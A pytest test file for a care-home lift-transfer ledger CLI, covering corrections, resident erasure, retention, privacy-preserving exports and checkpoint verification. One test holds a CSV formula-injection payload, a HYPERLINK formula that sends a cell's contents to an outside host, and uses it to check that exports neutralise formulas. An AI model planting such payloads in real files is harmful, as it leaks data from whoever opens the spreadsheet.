"""What a person may ask of the ledger, and what leaves the house."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import threading
import time
from collections import deque
from collections.abc import Iterator
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from config.schema import LedgerSpec
from liftctl import ipc
from liftctl.cli import app
from liftctl.places import Places
from liftctl.recorder import erasure
from liftctl.recorder.checkpoint import parse
from liftctl.recorder.entries import Entry
from liftctl.recorder.export import as_counts, as_table, chosen
from liftctl.recorder.ledger import Ledger
from liftctl.recorder.reader import read_transfers
from liftctl.recorder.shell import Recorder
from liftctl.recorder.task import Answered, Asked, Done, Job, LedgerTask
from liftctl.recorder.verify import verify
from liftctl.recorder.wallclock import Clock

DAY_NS = 86_400 * 10**9
NOW_NS = 1_800_000_000 * 10**9


@pytest.fixture
def places(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Places:
    monkeypatch.setenv("LIFTCTL_RUN", str(tmp_path / "run"))
    monkeypatch.setenv("LIFTCTL_DATA", str(tmp_path / "var"))
    return Places("demo")


def fill(places: Places, *told: dict[str, Any], age_days: int = 0) -> None:
    with closing(Ledger(places.ledger, lambda: NOW_NS - age_days * DAY_NS, places.heads)) as ledger:
        for record in told:
            name, outcome = record["id"], record.get("outcome", "completed")
            whole = {"schema": 2, "outcome": outcome, **record}
            ledger.append(Entry("opened", name, 1, {"id": name, "resident": whole.get("resident")}))
            ledger.append(Entry("closed", name, 2, whole, {"outcome": outcome}))


def run(*words: object) -> Any:
    return CliRunner().invoke(app, ["ledger", *map(str, words)])


def by_id(places: Places) -> dict[str, dict[str, Any]]:
    return {item["id"]: item for item in read_transfers(places.ledger)}


def test_a_correction_counts_and_the_first_word_stays(places: Places) -> None:
    alone = [{"joined_s": 0.0, "left_s": 80.0, "source": "badge"}]
    fill(places, {"id": "t", "carers_actual": 1, "carers_present": alone, "elapsed_s": 80.0,
                  "staff_s": 80.0, "resident": "r-1"})  # fmt: skip
    done = run("correct", places.ledger, "--transfer", "t", "--field", "carers_actual=2",
               "--field", 'outcome="fallback2"', "--reason", "spot audit")  # fmt: skip
    assert done.exit_code == 0, done.output
    record = by_id(places)["t"]
    assert (record["carers_actual"], record["outcome"]) == (2, "fallback2")
    (correction,) = record["corrections"]
    assert (correction["fields"]["carers_actual"], correction["reason"]) == (2, "spot audit")
    assert record["carers_present"] == [
        *alone, {"joined_s": 0.0, "left_s": 80.0, "source": "none"}
    ]  # fmt: skip
    assert record["staff_s"] == 160.0
    with closing(Ledger(places.ledger, lambda: NOW_NS)) as ledger:
        bodies = ledger.db.execute("SELECT body FROM payload").fetchall()
    assert any(b'"carers_actual":1' in body for (body,) in bodies)
    assert verify(places.ledger).ok


def test_corrected_stays_make_other_staff_seconds(places: Places) -> None:
    fill(places, {"id": "t", "elapsed_s": 90.0, "staff_s": 90.0, "carers_actual": 1})
    stays = json.dumps([{"joined_s": 0, "left_s": 90}, {"joined_s": 30, "left_s": 90}])
    done = run("correct", places.ledger, "--transfer", "t", "--field", f"carers_present={stays}",
               "--reason", "spot audit")  # fmt: skip
    assert done.exit_code == 0, done.output
    record = by_id(places)["t"]
    assert (record["staff_s"], record["carers_actual"]) == (150.0, 2)


@pytest.mark.parametrize(
    ("field", "reason", "why"),
    [
        ("resident=\"r-2\"", "x", "cannot correct resident"),
        ("carers_actual=\"two\"", "x", "carers_actual"),
        ("outcome=\"fine\"", "x", "outcome: use one of"),
        ("carers_actual=0", "x", "fewer than were seen"),
        ("outcome=fine", "x", "NAME=JSON"),
        ("carers_actual=2", " ", "reason is empty"),
    ],
)  # fmt: skip
def test_a_correction_that_makes_no_sense_is_refused(
    places: Places, field: str, reason: str, why: str
) -> None:
    fill(places, {"id": "t", "carers_present": [{"joined_s": 0, "left_s": 9}]})
    done = run("correct", places.ledger, "--transfer", "t", "--field", field, "--reason", reason)
    assert done.exit_code == 2
    assert why in done.output
    assert "corrections" not in by_id(places)["t"]


def test_a_resident_is_erased_after_being_asked_twice(places: Places) -> None:
    fill(places, *({"id": f"t{n}", "resident": f"r-{n % 2}"} for n in range(4)))
    asked = run("erase", places.ledger, "--resident", "r-1")
    assert "2 transfers would be erased" in asked.output
    assert verify(places.ledger).erased == 0
    done = run("erase", places.ledger, "--resident", "r-1", "--yes")
    assert "4 payloads of 2 transfers erased" in done.output
    result = verify(places.ledger)
    assert (result.ok, result.erased) == (True, 4)
    everything = b"".join(path.read_bytes() for path in places.data.glob("ledger.sqlite*"))
    assert b'"r-1"' not in everything
    assert b'"r-0"' in everything
    assert run("erase", places.ledger).exit_code == 2


@pytest.mark.parametrize(
    ("outcome", "age_days", "due"),
    [
        ("completed", 729, False), ("completed", 731, True), ("aborted", 731, True),
        ("fault", 731, False), ("emergency", 3649, False), ("interrupted", 3651, True),
    ],
)  # fmt: skip
def test_payloads_are_due_by_outcome_and_age(
    places: Places, outcome: str, age_days: int, due: bool
) -> None:
    fill(places, {"id": "t", "outcome": outcome}, age_days=age_days)
    with closing(Ledger(places.ledger, lambda: NOW_NS)) as ledger:
        found = erasure.due(ledger.db, erasure.Retention(), NOW_NS)
        assert found == (["t"] if due else [])
        assert erasure.due(ledger.db, erasure.Retention(payload_days=0), NOW_NS) == []
        assert erasure.due(ledger.db, erasure.Retention(1, 0), NOW_NS) == (
            ["t"] if outcome in ("completed", "aborted") else []
        )


@pytest.mark.parametrize("sync", ["synchronised", "unsynchronised", "unknown"])
def test_the_recorder_erases_what_is_due_only_by_a_synchronised_clock(
    places: Places, sync: str
) -> None:
    fill(places, {"id": "old1"}, {"id": "old2"}, age_days=800)
    task = LedgerTask(places, Clock(lambda: 1, lambda: NOW_NS, lambda: sync))
    told: list[Any] = []
    for _ in range(3):
        task.run([], told.append)  # type: ignore[arg-type]
    task.close()
    erased = [name for name, item in by_id(places).items() if item["erased"]]
    assert sorted(erased) == (["old1", "old2"] if sync == "synchronised" else [])
    assert ("2 payloads are due" in told[-1].warning) is (sync != "synchronised")
    assert verify(places.ledger).ok


def test_a_request_or_a_retention_that_fails_keeps_no_record_from_being_written(
    places: Places, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fails(*_: object) -> None:
        raise sqlite3.OperationalError("malformed JSON")

    monkeypatch.setattr(erasure, "transfers_of", fails)
    monkeypatch.setattr(erasure, "due", fails)
    task = LedgerTask(places, Clock(lambda: 1, lambda: NOW_NS, lambda: "synchronised"))
    asked = Asked(ipc.LedgerAsk("erase", {"resident": "r-1"}), 7)
    jobs = deque([asked, Job(Entry("opened", "t", 1, {}))])
    told: list[Any] = []
    places.data.mkdir(parents=True)
    task.run(jobs, told.append)
    task.close()
    (answered,) = [item for item in told if isinstance(item, Answered)]
    assert (answered.channel, answered.says.ok) == (7, False)
    assert "malformed JSON" in answered.says.text
    assert [item.job.entry.transfer_id for item in told if isinstance(item, Done)] == ["t"]
    assert "retention failed: malformed JSON" in told[-1].warning
    assert not jobs


def test_an_export_leaves_out_what_staff_wrote(places: Places, tmp_path: Path) -> None:
    stays = [{"joined_s": 0.0, "left_s": 90.0, "source": "badge"}]
    fill(places, {"id": "t", "note": "Mrs H. was afraid", "phases": {"end": 90.0},
                  "started_utc": "2026-11-01T10:00:00+00:00",
                  "carers_present": stays})  # fmt: skip
    (line,) = run("export", places.ledger).stdout.splitlines()
    record = json.loads(line)
    assert "note" not in record
    assert set(record["carers_present"][0]) == {"joined_s", "left_s", "source"}
    assert "afraid" in run("export", places.ledger, "--with-notes").stdout
    out = tmp_path / "out.csv"
    assert run("export", places.ledger, "--format", "csv", "--out", out).exit_code == 0
    (row,) = csv.DictReader(out.open())
    assert (row["id"], row["phases.end"], "note" in row) == ("t", "90.0", False)
    assert run("export", places.ledger, "--since", "2026-11-02").stdout == ""
    assert run("export", places.ledger, "--format", "xml").exit_code == 2


def test_no_cell_of_the_ledgers_csv_is_a_formula() -> None:
    evil = '=HYPERLINK("http://x/?"&A2,"click")'
    told = {"id": "t", "note": evil, "reason": "+1+1", "kind": "@SUM(A1)", "elapsed_s": -1.5}
    text = "".join(as_table([told]))
    (row,) = csv.DictReader(io.StringIO(text))
    assert (row["note"], row["reason"], row["kind"]) == (f"'{evil}", "'+1+1", "'@SUM(A1)")
    assert row["elapsed_s"] == "-1.5", "a number stays a number"


def test_a_count_with_fewer_than_five_residents_behind_it_is_not_told() -> None:
    def record(n: int, kind: str, resident: str) -> dict[str, Any]:
        return {"id": str(n), "kind": kind, "resident": resident, "outcome": "completed",
                "started_utc": "2026-11-01T10:00:00+00:00", "carers_actual": 1}  # fmt: skip

    told = [record(n, "bed-chair", f"r-{n % 5}") for n in range(12)]
    told += [record(n, "chair-bed", f"r-{n % 4}") for n in range(40)]
    rows = list(csv.DictReader(as_counts(chosen(told))))
    counts = {row["kind"]: row["transfers"] for row in rows}
    assert counts == {"bed-chair": "12", "chair-bed": "fewer than 5 residents"}, "forty transfers"


@pytest.mark.parametrize(
    "asked", [("--since", "2026-01-01"), ("--until", "2027-01-01"), ("--until", "2026-01-01")]
)
def test_an_erased_record_is_in_no_period_and_that_is_said(
    places: Places, asked: tuple[str, str]
) -> None:
    fill(places, {"id": "gone", "started_utc": "2026-06-01T10:00:00+00:00"})
    run("erase", places.ledger, "--transfer", "gone", "--yes")
    done = run("export", places.ledger, *asked)
    assert done.stdout == ""
    assert "1 without a date (erased) are in no period" in done.stderr
    assert '"gone"' in run("export", places.ledger).stdout


def test_seal_prints_a_checkpoint_that_later_verifies(places: Places, tmp_path: Path) -> None:
    fill(places, {"id": "t"})
    out = tmp_path / "head.note"
    assert run("seal", places.ledger, "--out", out).exit_code == 0
    fill(places, {"id": "t2"})
    assert parse(out.read_text()).size == 3
    done = run("verify", places.ledger, "--against", out)
    assert (done.exit_code, "1 compared" in done.stdout) == (0, True)
    assert run("rotate", places.ledger).exit_code == 0
    assert run("verify", places.ledger, "--against", out).exit_code == 0


def test_there_has_to_be_a_ledger(tmp_path: Path) -> None:
    for words in (["seal"], ["rotate"], ["export"], ["erase", "--due"]):
        done = run(words[0], tmp_path / "none.sqlite", *words[1:])
        assert (done.exit_code, "no ledger here" in done.output) == (2, True), done.output
    assert list(tmp_path.iterdir()) == []


@pytest.fixture
def recorder(places: Places) -> Iterator[Recorder]:
    begun_ns = time.monotonic_ns()  # a wall clock that stood would soon be a clock that was set
    wall = lambda: NOW_NS + time.monotonic_ns() - begun_ns  # noqa: E731
    clock = Clock(time.monotonic_ns, wall, lambda: "unsynchronised")
    places.data.mkdir(parents=True)
    found = Recorder(places, clock, keep=replace(LedgerSpec(), payload_days=1))
    thread = threading.Thread(target=found.run)
    thread.start()
    yield found
    found.stop()
    thread.join(60)
    assert not thread.is_alive()


def test_a_running_recorder_does_what_is_asked_and_tells_how_the_ledger_stands(
    places: Places, recorder: Recorder
) -> None:
    channel = None
    while channel is None:
        channel = ipc.connect(places.sock("recorder"))
    channel.send(ipc.TransferOpened("t", 1, {"resident": "r-1"}))
    channel.send(ipc.TransferClosed("t", 2, {"outcome": "completed", "resident": "r-1"}))
    heard: list[Any] = []
    while not any(isinstance(item, ipc.Written) and item.kind == "closed" for item in heard):
        heard += channel.receive()
    assert "sealed at entry 3" in run("seal", places.ledger).output
    done = run("correct", places.ledger, "--transfer", "t", "--field", "exclude=true",
               "--field", 'exclude_reason="training"', "--reason", "first day")  # fmt: skip
    assert "entry 4 corrects" in done.output
    assert by_id(places)["t"]["exclude_reason"] == "training"
    assert run("correct", places.ledger, "--transfer", "x", "--field", "exclude=true",
               "--reason", "y").exit_code == 2  # fmt: skip
    assert "3 payloads of 1 transfers erased" in run(
        "erase", places.ledger, "--transfer", "t", "--yes").output  # fmt: skip
    while not any(isinstance(item, ipc.RecorderState) and item.entries == 5 for item in heard):
        heard += channel.receive()
    (state,) = {item.clock for item in heard if isinstance(item, ipc.RecorderState)}
    assert state == "unsynchronised"
    assert verify(places.ledger).ok
    channel.close()
